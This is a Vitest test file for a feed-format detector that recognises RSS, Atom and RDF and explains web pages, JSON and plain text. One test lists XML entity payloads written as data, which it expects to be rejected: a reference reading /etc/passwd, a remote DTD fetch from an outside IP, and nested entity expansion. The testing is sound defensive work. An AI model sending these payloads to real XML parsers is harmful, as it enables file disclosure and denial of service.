import { describe, expect, it } from 'vitest';
import { recogniseFeedDocument } from './recogniseFeedDocument';

describe('recogniseFeedDocument', () => {
  it('recognises RSS, Atom and RDF roots after a prolog', () => {
    const prolog = '\uFEFF<?xml version="1.0"?>\n<?xml-stylesheet href="s.xsl"?>\n<!-- c -->\n';

    expect(recogniseFeedDocument(`${prolog}<rss version="2.0"/>`)).toEqual({ format: 'rss' });
    expect(recogniseFeedDocument(`${prolog}<feed xmlns="http://www.w3.org/2005/Atom"/>`)).toEqual({
      format: 'atom',
    });
    expect(recogniseFeedDocument(`${prolog}<rdf:RDF xmlns:rdf="x"/>`)).toEqual({ format: 'rdf' });
  });

  it('tells the user a web page is not a feed, with or without a doctype', () => {
    for (const page of [
      '<!DOCTYPE html><html></html>',
      '<html><body/></html>',
      '  <div>Error</div>',
    ]) {
      const result = recogniseFeedDocument(page);
      expect(result.format).toBeNull();
      expect(result.format === null && result.message).toMatch(
        /^This address is a web page, not a feed\./,
      );
    }
  });

  it('names JSON, empty answers, plain text and other XML', () => {
    const messageOf = (text: string) => {
      const result = recogniseFeedDocument(text);
      return result.format === null ? result.message : `recognised as ${result.format}`;
    };

    expect(messageOf('{"items":[]}')).toMatch(/JSON/);
    expect(messageOf(' \n ')).toMatch(/empty/);
    expect(messageOf('Service unavailable')).toMatch(/plain text/);
    expect(messageOf('<?xml version="1.0"?><opml version="2.0"/>')).toMatch(/<opml>/);
  });

  it('refuses any document type declaration that declares entities, before parsing', () => {
    const declarations = [
      '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://203.0.113.9/x.dtd"> %remote;]>',
      '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
      // A "]" inside a quoted value ends the prolog pattern early: still refused.
      '<!DOCTYPE rss [<!ENTITY a "]>">]>',
    ];
    for (const doctype of declarations) {
      expect(recogniseFeedDocument(`<?xml version="1.0"?>${doctype}<rss version="2.0"/>`)).toEqual(
        expect.objectContaining({ format: null, code: 'unsafe-xml' }),
      );
    }
  });

  it('accepts a document type declaration without entities, as old RSS 0.91 feeds carry', () => {
    const netscape =
      '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">';

    expect(recogniseFeedDocument(`${netscape}<rss version="0.91"/>`)).toEqual({ format: 'rss' });
    expect(recogniseFeedDocument('<!DOCTYPE rss [<!ELEMENT rss ANY>')).toMatchObject({
      code: 'malformed-feed',
    });
  });
});
